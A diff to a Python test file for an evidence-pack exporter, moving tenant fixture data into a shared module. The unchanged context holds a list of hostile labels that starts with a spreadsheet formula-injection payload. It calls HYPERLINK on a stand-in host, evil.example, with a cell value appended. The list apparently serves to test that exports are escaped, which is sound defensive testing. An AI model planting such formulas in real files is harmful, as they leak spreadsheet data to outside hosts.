@@ -16,20 +16,11 @@ from services.evidence.layout import COLUMNS, PACK_FILES, PackExists, default_pa
 from services.evidence.rows import outcomes_from_journal
 from services.evidence.write import write_pack
 from services.journal.writer import Journal
-from services.models import TenantInfo, UserRow
+from services.models import UserRow
 from services.paths import InvalidTenantId
+from tests.support.tenant import TENANT, TENANT_ID
 
-TENANT_ID = "0b7e2c1a-5f3d-4e8a-9c6b-1d2e3f4a5b6c"
 RUN = "20250301T101502.123Z-a1b2c3"
-TENANT = TenantInfo(
-    id=TENANT_ID,
-    display_name="Contoso Ränteservice AB",
-    initial_domain="contosorante.onmicrosoft.com",
-    cloud="global",
-    signed_in_upn="admin@contosorante.onmicrosoft.com",
-    signed_in_id="11111111-1111-1111-1111-111111111111",
-    app_only=False,
-)
 HOSTILE_LABELS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "+46 8 123 45 67",
